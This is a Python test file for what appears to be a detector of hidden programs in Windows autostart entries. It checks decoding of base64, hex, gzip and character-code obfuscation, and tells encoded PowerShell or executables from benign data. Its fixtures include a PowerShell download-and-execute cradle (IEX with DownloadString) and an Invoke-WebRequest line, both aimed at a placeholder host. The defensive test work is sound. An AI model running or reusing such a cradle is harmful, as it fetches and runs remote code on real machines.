"""Hidden text comes to light; other text is left alone."""

from __future__ import annotations

import base64
import gzip

import pytest

from runkeyhunt.commandline.decode import decode_base64, hidden_texts
from runkeyhunt.places.stored_program import holds_program

SECRET = "Invoke-WebRequest https://h.example/a"
BASE64 = base64.b64encode(SECRET.encode()).decode()
BASE64_WIDE = base64.b64encode(SECRET.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(BASE64, id="UTF-8"),
        pytest.param(BASE64_WIDE, id="UTF-16LE"),
        pytest.param(BASE64_WIDE.rstrip("="), id="without padding"),
        pytest.param(BASE64.replace("+", "-").replace("/", "_"), id="URL alphabet"),
        pytest.param(base64.b64encode(gzip.compress(SECRET.encode())).decode(), id="gzip"),
    ],
)
def test_base64(text: str) -> None:
    assert decode_base64(text) == SECRET


@pytest.mark.parametrize("text", ["", "!!!!", "AAAA", base64.b64encode(bytes(range(256))).decode()])
def test_what_is_no_text_gives_nothing(text: str) -> None:
    assert decode_base64(text) == ""


@pytest.mark.parametrize(
    "text",
    [
        f"$x='{BASE64}'",
        f"'{BASE64[:20]}'+'{BASE64[20:]}'",
        SECRET.encode().hex(),
        ",".join(f"0x{byte:02x}" for byte in SECRET.encode()),
        "[char[]](" + ",".join(str(byte) for byte in SECRET.encode()) + ")",
    ],
    ids=["base64", "concatenated", "hexadecimal", "hexadecimal list", "character codes"],
)
def test_hidden_texts(text: str) -> None:
    assert list(hidden_texts(text)) == [SECRET]


@pytest.mark.parametrize(
    "text",
    [
        r'"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --no-startup-window --win-session-start',
        "MicrosoftEdgeAutoLaunch_29EBC4579851B72EE312C449CF839B1A",
        r"C:\ProgramData\Package Cache\{f65db027-aff3-4070-886a-0d87064aabb1}\vcredist_x86.exe",
    ],
)
def test_ordinary_commands_hide_nothing(text: str) -> None:
    assert list(hidden_texts(text)) == []


SCRIPT = "$client = New-Object Net.WebClient; IEX $client.DownloadString('https://h.example/a')" * 3


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param(base64.b64encode(SCRIPT.encode("utf-16-le")).decode(), True, id="PowerShell in base64"),
        pytest.param(SCRIPT.encode().hex(), True, id="PowerShell in hexadecimal"),
        pytest.param(base64.b64encode(b"MZ" + bytes(300)).decode(), True, id="program in base64"),
        pytest.param(base64.b64encode(b"An ordinary text of a licence. " * 20).decode(), False, id="ordinary text"),
        pytest.param(base64.b64encode(bytes(range(256)) * 2).decode(), False, id="a certificate's kind of bytes"),
        pytest.param(base64.b64encode(SCRIPT[:40].encode()).decode(), False, id="too short"),
        pytest.param(SCRIPT, False, id="not encoded"),
    ],
)
def test_a_stored_program_is_told_from_other_data(text: str, expected: bool) -> None:
    assert holds_program(text) is expected
